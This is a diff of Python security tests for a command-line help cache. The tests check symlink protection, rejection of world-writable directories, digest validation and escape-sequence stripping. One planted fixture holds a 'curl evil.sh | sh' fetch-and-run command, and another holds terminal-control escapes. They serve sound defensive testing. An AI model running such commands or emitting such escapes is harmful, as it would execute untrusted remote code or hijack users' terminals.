@@ -48,10 +48,10 @@ def test_planted_symlinks_are_never_written_through(fake_render, tmp_path, capsy
     (directory / f".fit.txt.tmp-{os.getpid()}").symlink_to(victim)
     help_cache.print_help("fit")
     assert victim.read_text() == "years of work\n"
-    (directory / "fit.txt").unlink()
-    (directory / "fit.txt").symlink_to(victim)
+    help_cache.cache_file("fit").unlink()
+    help_cache.cache_file("fit").symlink_to(victim)
     help_cache.print_help("fit")
-    assert victim.read_text() == "years of work\n" and not (directory / "fit.txt").is_symlink()
+    assert victim.read_text() == "years of work\n" and not help_cache.cache_file("fit").is_symlink()
     assert capsys.readouterr().out == "help of fit\n" * 2 and fake_render == ["fit", "fit"]
 
 
@@ -60,18 +60,20 @@ def test_directory_others_can_write_to_is_not_used(fake_render, capsys):
     directory.mkdir(parents=True)
     directory.chmod(0o777)
     planted = crafted("fit", "run curl evil.sh | sh to see the help\n")
-    (directory / "fit.txt").write_text(planted)
+    help_cache.cache_file("fit").write_text(planted)
     help_cache.print_help("fit")
     captured = capsys.readouterr()
     assert captured.out == "help of fit\n"  # rendered, not read
     assert f"{directory} is not a directory of yours that only you can write to" in captured.err
-    assert (directory / "fit.txt").read_text() == planted and sorted(os.listdir(directory)) == ["fit.txt"]
+    assert help_cache.cache_file("fit").read_text() == planted and sorted(os.listdir(directory)) == [
+        help_cache.cache_file("fit").name
+    ]
 
 
 def test_directory_of_another_user_or_a_symlink_is_not_used(fake_render, monkeypatch, tmp_path, capsys):
     directory = help_cache.cache_file("fit").parent
     directory.mkdir(parents=True, mode=0o700)
-    (directory / "fit.txt").write_text(crafted("fit", "foreign\n"))
+    help_cache.cache_file("fit").write_text(crafted("fit", "foreign\n"))
     help_cache.print_help("fit")
     assert capsys.readouterr().out == "foreign\n"  # the control: a private directory is read
     monkeypatch.setattr(os, "getuid", lambda: os.stat(directory).st_uid + 1)
@@ -93,7 +95,7 @@ def test_text_that_does_not_match_its_digest_is_rendered_again(fake_render, caps
         crafted("fit", "edited\n", digest=hashlib.sha256(b"other").hexdigest()),
         f"{help_cache.cache_key('fit')}\nedited\n",  # no digest at all (the key line of before issue 29)
     ):
-        (directory / "fit.txt").write_text(edited)
+        help_cache.cache_file("fit").write_text(edited)
         help_cache.print_help("fit")
         assert capsys.readouterr().out == "help of fit\n"
     assert fake_render == ["fit", "fit"]
@@ -104,7 +106,7 @@ def test_text_that_does_not_match_its_digest_is_rendered_again(fake_render, caps
 def test_terminal_control_characters_are_never_printed(fake_render, monkeypatch, capsys):
     directory = help_cache.cache_file("fit").parent
     directory.mkdir(parents=True, mode=0o700)
-    (directory / "fit.txt").write_text(crafted("fit", f"usage:{ESCAPES}\tend\n"))
+    help_cache.cache_file("fit").write_text(crafted("fit", f"usage:{ESCAPES}\tend\n"))
     help_cache.print_help("fit")
     assert capsys.readouterr().out == "usage:]0;owned[2J[31mred[0m 31m\tend\n"
     monkeypatch.setattr(help_cache, "render_help", lambda command: f"rendered{ESCAPES}\n")
@@ -127,3 +129,18 @@ def test_a_cache_that_cannot_be_written_says_so(fake_render, capsys, monkeypatch
     err = capsys.readouterr().err.strip().splitlines()
     assert err[-1] == f"s2forecast fit: could not write {help_cache.cache_file('fit')}; the next call builds it"
     assert not help_cache.cache_file("fit").exists() and fake_render == ["fit", "fit"]
+
+
+def test_each_width_and_install_keeps_its_own_file(fake_render, capsys, monkeypatch):
+    """One file per command: `fit --help` in a terminal and `fit --help | less` (80 columns), or two
+    installs sharing ~/.cache, rebuilt each other's help every time, 8 s each (a review found it). The
+    newest KEPT files of a command stay."""
+    for columns in ("120", "80", "120", "80"):
+        monkeypatch.setenv("COLUMNS", columns)
+        help_cache.print_help("fit")
+    assert fake_render == ["fit", "fit"]  # each width rendered once
+    directory = help_cache.cache_file("fit").parent
+    for width in range(help_cache.KEPT + 3):
+        monkeypatch.setenv("COLUMNS", str(200 + width))
+        help_cache.print_help("fit")
+    assert len([name for name in os.listdir(directory) if name.startswith("fit-")]) == help_cache.KEPT
